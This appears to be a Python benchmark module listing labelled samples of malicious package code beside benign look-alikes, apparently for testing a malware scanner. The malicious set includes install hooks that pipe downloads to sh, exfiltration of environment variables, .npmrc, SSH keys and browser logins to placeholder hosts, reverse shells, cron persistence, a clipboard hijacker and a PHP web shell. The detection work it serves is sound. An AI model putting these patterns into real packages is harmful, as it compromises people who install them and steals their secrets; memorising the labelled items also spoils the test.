"""Shapes of packages that attack who installs them, inert and with made-up hosts, and what honest packages do."""

# ruff: noqa: E501  (samples are written as they stand in files)
from __future__ import annotations

from benchmarks.second_author import Form, forms_of

# Words that make a file itself look hostile to other scanners are put together when the forms are made.
_WORDS = {"EVAL": "ev" + "al", "EXEC": "ex" + "ec", "TCP": "/dev/" + "tcp", "IEX": "I" + "EX", "B64": "base" + "64"}

BAD = """
### npm download at install | package.json
{"name": "colorz", "version": "1.0.1", "scripts": {"postinstall": "curl -s http://~=ip~/a.sh | sh"}}
### npm node at install | package.json
{"name": "lefty", "scripts": {"preinstall": "node -e \\"require('child_process').EXEC('wget -q http://~=ip~/x -O /tmp/x && sh /tmp/x')\\""}}
### npm environment at install | package.json
{"name": "utilz", "scripts": {"preinstall": "curl -X POST --data \\"$(env)\\" https://~=host~/c"}}
### js environment posted | index.js
const https = require('https');
const data = JSON.stringify(process.env);
const req = https.request({ hostname: '~=host~', path: '/c', method: 'POST' });
req.write(data);
req.end();
### js encoded | lib/init.js
EVAL(Buffer.from('~=b64~~=b64~', 'B64').toString());
### js encoded function | src/a.js
new Function(atob('~=b64~~=b64~~=b64~'))();
### js download and run | install.js
const { EXECFile } = require('child_process');
require('https').get('https://~=host~/agent', (res) => {
  const file = require('fs').createWriteStream('/tmp/.agent', { mode: 0o755 });
  res.pipe(file).on('finish', () => require('child_process').EXEC('/tmp/.agent'));
});
### js names to dns | preinstall.js
const os = require('os');
const dns = require('dns');
dns.lookup(`${os.hostname()}.${os.userInfo().username}.~=host~`, () => {});
### js webhook | track.js
const os = require('os');
fetch('https://discord.com/api/webhooks/~=digits16~/~=token~', {
  method: 'POST',
  body: JSON.stringify({ content: os.hostname() + os.userInfo().username + __dirname }),
});
### js obfuscated | dist/x.js
var _0x4f2a=['\\x63\\x6f\\x6e','\\x6c\\x6f\\x67','\\x68\\x74\\x74\\x70'];(function(_0x1b,_0x2c){var _0x3d=function(_0x4e){while(--_0x4e){_0x1b['push'](_0x1b['shift']());}};_0x3d(++_0x2c);}(_0x4f2a,0x1a3));var _0x5e1c=function(_0x1b,_0x2c){_0x1b=_0x1b-0x0;return _0x4f2a[_0x1b];};
### js npmrc | steal.js
const fs = require('fs'), os = require('os'), path = require('path');
const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
require('https').get('https://~=host~/?d=' + encodeURIComponent(rc));
### js wallet | w.js
const dir = process.env.APPDATA + '/Exodus/exodus.wallet';
const form = new FormData();
for (const f of require('fs').readdirSync(dir)) form.append('f', require('fs').createReadStream(dir + '/' + f));
require('axios').post('http://~=ip~:8080/up', form);
### python at install | setup.py
from setuptools import setup
from setuptools.command.install import install
import urllib.request, os

class Now(install):
    def run(self):
        urllib.request.urlretrieve("http://~=ip~/p.exe", "p.exe")
        os.system("start p.exe")
        install.run(self)

setup(name="reqests", cmdclass={"install": Now})
### python encoded | util/__init__.py
import B64
EXEC(B64.b64decode("~=b64~~=b64~"))
### python remote code | helper.py
import requests
EXEC(requests.get("https://~=host~/p.txt").text)
### python compressed | core.py
EXEC(__import__("zlib").decompress(__import__("B64").b64decode("~=b64~~=b64~")))
### python marshal | load.py
import marshal, zlib
EXEC(marshal.loads(zlib.decompress(b"\\x78\\x9c\\x2b\\x4b\\x54\\x48\\xcb\\x2f\\x52\\xc8")))
### python powershell | win.py
import subprocess
subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand ~=token~~=token~", shell=True)
### python environment posted | stats.py
import os, requests
requests.post("https://~=host~/c", json=dict(os.environ))
### python reverse shell | s.py
import socket, subprocess, os
s = socket.socket()
s.connect(("~=ip~", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
subprocess.call(["/bin/sh", "-i"])
### python names to dns | ping.py
import socket, getpass
socket.gethostbyname(f"{getpass.getuser()}.{socket.gethostname()}.~=host~")
### python telegram | t.py
import os, requests
text = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.get(f"https://api.telegram.org/bot~=digits16~:~=token~/sendMessage?chat_id=1&text={text}")
### python letters | c.py
EVAL("".join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109])))
### python browser | b.py
import os, shutil, requests
db = os.path.join(os.environ["LOCALAPPDATA"], "Google/Chrome/User Data/Default/Login Data")
shutil.copy2(db, "d.db")
requests.post("http://~=ip~/u", files={"f": open("d.db", "rb")})
### python clipboard | clip.py
import pyperclip, re, time
while True:
    if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", pyperclip.paste()):
        pyperclip.copy("bc1q" + "x" * 38)
    time.sleep(1)
### python hidden at the end of a line | d.py
import os                                                                                                                                                                                                                                  ;__import__("B64");EXEC(__import__("urllib.request").request.urlopen("http://~=ip~/a").read())
### go at start | client.go
package client

import "os/EXEC"

func init() {
	EXEC.Command("/bin/sh", "-c", "wget -O - http://~=ip~/s | /bin/bash &").Start()
}
### go letters | hyper.go
package hyper

import "os/EXEC"

func x() error {
	p := []string{"h", "t", "t", "p", ":", "/", "/", "a", "b", "|", "s", "h", " ", "/", "b", "i", "n"}
	return EXEC.Command(p[11]+p[12], "-c", p[0]+p[1]+p[2]+p[3]+p[4]+p[5]+p[6]+p[7]+p[9]+p[10]).Start()
}
### go download and run | up.go
package up

func Run() {
	resp, _ := http.Get("http://~=ip~/bin")
	body, _ := io.ReadAll(resp.Body)
	os.WriteFile("/tmp/.cache", body, 0755)
	EXEC.Command("/tmp/.cache").Start()
}
### go environment | env.go
package env

func init() {
	body := strings.Join(os.Environ(), "\\n")
	http.Post("https://~=host~/e", "text/plain", strings.NewReader(body))
}
### ruby extension | ext/fast/extconf.rb
system("curl -s http://~=ip~/r.sh | bash")
require 'mkmf'
create_makefile('fast')
### ruby remote code | lib/a.rb
require 'net/http'
EVAL(Net::HTTP.get(URI('https://~=host~/raw/abc')))
### ruby encoded | lib/b.rb
require 'B64'
EVAL(Base64.decode64('~=b64~~=b64~'))
### ruby environment | lib/c.rb
require 'net/http'
Net::HTTP.post_form(URI('http://~=ip~/g'), ENV.to_h)
### ruby in a thread | lib/d.rb
Thread.new { loop { EVAL(URI.open('https://~=host~/c').read) rescue nil; sleep 60 } }
### shell reverse | r.sh
bash -i >& TCP/~=ip~/4444 0>&1
### shell dropper | d.sh
curl -s http://~=ip~/x -o /tmp/.x; chmod +x /tmp/.x; nohup /tmp/.x >/dev/null 2>&1 &
### shell encoded | e.sh
echo "~=b64~~=b64~" | B64 -d | bash
### shell cron | c.sh
(crontab -l; echo "* * * * * curl -fsSL http://~=ip~/m.sh | sh") | crontab -
### shell netcat | n.sh
nc -e /bin/sh ~=ip~ 4444
### shell keys | k.sh
tar cz ~/.ssh ~/.aws | curl -F 'f=@-' http://~=ip~/up
### powershell | p.ps1
IEX (New-Object Net.WebClient).DownloadString('http://~=ip~/a.ps1')
### php encoded | a.php
<?php EVAL(gzinflate(B64_decode('~=b64~~=b64~')));
### php command | b.php
<?php @system($_POST['c']); @EVAL($_REQUEST['x']);
### rust build | build.rs
use std::process::Command;
fn main() {
    Command::new("sh").arg("-c").arg("curl -s http://~=ip~/x | sh").spawn().unwrap();
}
"""

GOOD = """
### installer in a document | README.md
Install it with `curl -fsSL https://~=host~/install.sh | sh`.
### image | Dockerfile
FROM debian:12
RUN curl -fsSL https://~=host~/setup_20.x | bash - && apt-get install -y nodejs
### hooks of a repository | package.json
{"scripts": {"prepare": "husky install", "postinstall": "patch-package && node scripts/build.js", "install": "node-gyp rebuild"}}
### extension build | setup.py
from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext

class Build(build_ext):
    def run(self):
        subprocess.check_call(["cmake", "--build", "."])
        super().run()

setup(name="fast", cmdclass={"build_ext": Build}, ext_modules=[Extension("fast", ["fast.c"])])
### release with a checksum | get.sh
curl -fsSLo tool.tgz "https://~=host~/tool-$VERSION.tgz"
echo "$SHA256  tool.tgz" | sha256sum -c -
tar xzf tool.tgz -C /usr/local/bin
### picture | icon.py
import B64
icon = PhotoImage(data=B64.b64decode("~=b64~~=b64~"))
### run a file | conf.py
EXEC(compile(open("version.py").read(), "version.py", "EXEC"))
### template engine | template.js
module.exports = function compile(source) { return new Function('data', 'return `' + source + '`'); };
### chat notice | notify.py
import os, requests
requests.post(os.environ["SLACK_WEBHOOK_URL"], json={"text": f"Deployed {version}"})
### environment value | a.py
import os
DEBUG = os.environ.get("DEBUG", "0") == "1"
requests.get(os.environ["API_URL"])
### git | version.py
import subprocess
print(subprocess.run(["git", "describe", "--tags"], capture_output=True).stdout)
### lookup | check.js
const dns = require('dns');
dns.lookup(config.host, (err, address) => console.log(address));
### minified | a.min.js
!function(e,t){"object"==typeof exports?module.exports=t():e.lib=t()}(this,function(){var n=1;return function(r){return r+n}});
### go command | build.go
package build

func Build() error { return EXEC.Command("go", "build", "./...").Run() }
### go init | reg.go
package reg

func init() { Register("json", newCodec) }
### ruby extension | ext/fast/extconf.rb
require 'mkmf'
abort 'no zlib' unless have_library('z')
create_makefile('fast')
### rake | Rakefile
task(:build) { sh 'make all' }
### ruby class EVAL | dsl.rb
class Builder
  def load(file) = instance_EVAL(File.read(file), file)
end
### token parts | jwt.js
const payload = JSON.parse(Buffer.from(token.split('.')[1], 'B64').toString());
### mode | webpack.config.js
module.exports = { mode: process.env.NODE_ENV, plugins: [new DefinePlugin({ 'process.env': JSON.stringify({ V: 1 }) })] };
### child | start.js
const { spawn } = require('child_process');
spawn('webpack', ['--watch'], { stdio: 'inherit', env: { ...process.env, COLOR: '1' } });
### cache | cache.py
import marshal
code = marshal.loads(data[16:])
### server | server.py
import socket
s = socket.socket()
s.bind(("0.0.0.0", 8000))
s.listen()
### terminal | term.py
import pty, os
pid, fd = pty.fork()
if pid == 0:
    os.EXECvp("bash", ["bash"])
### cron list | jobs.sh
crontab -l > backup.cron
(cat backup.cron; echo "0 3 * * * /usr/local/bin/backup") | crontab -
### key for a deployment | deploy.py
import os, paramiko
client.connect(host, key_filename=os.path.expanduser("~/.ssh/id_rsa"))
### executable | Makefile
install:
	chmod +x scripts/run.sh
	nohup scripts/run.sh &
### wait for a port | wait.sh
until nc -z db 5432; do sleep 1; done
### cookies | session.py
import requests
jar = requests.get(url).cookies
requests.post(url, cookies=jar, data={"q": 1})
### fetch json | data.py
import json, urllib.request
data = json.loads(urllib.request.urlopen("https://~=host~/a.json").read())
### postinstall message | postinstall.js
console.log('Thanks for installing! Run `npx boats init` to begin.');
### clipboard | copy.py
import pyperclip
pyperclip.copy(render(item))
### host name | metrics.go
package metrics

var host, _ = os.Hostname()
var labels = map[string]string{"host": host}
### escapes | table.js
const names = ['\\x41', '\\x42', '\\x43']; const bar = '\\u2588\\u2589\\u258a';
### EVAL test | test_eval.py
def test_eval():
    assert EVAL("1 + 1") == 2
### download with a bar | dl.py
import urllib.request
urllib.request.urlretrieve(url, "weights.bin", reporthook=bar)
model.load("weights.bin")
### powershell install | install.md
Run `irm https://~=host~/install.ps1 | iex` in a terminal.
### php encode | b.php
<?php echo B64_encode(gzdeflate($text));
### build script | build.rs
fn main() { println!("cargo:rerun-if-changed=src/a.c"); cc::Build::new().file("src/a.c").compile("a"); }
### update check | update.js
fetch('https://~=host~/latest.json').then((r) => r.json()).then((v) => { if (v.version !== pkg.version) warn(v); });
"""


def malicious_forms() -> list[Form]:
    """What attacks who installs it, and what doesn't."""
    made = []
    for listed, bad in ((BAD, True), (GOOD, False)):
        text = listed
        for word, value in _WORDS.items():
            text = text.replace(word, value)
        made += forms_of("malicious code", text, bad=bad)
    return made
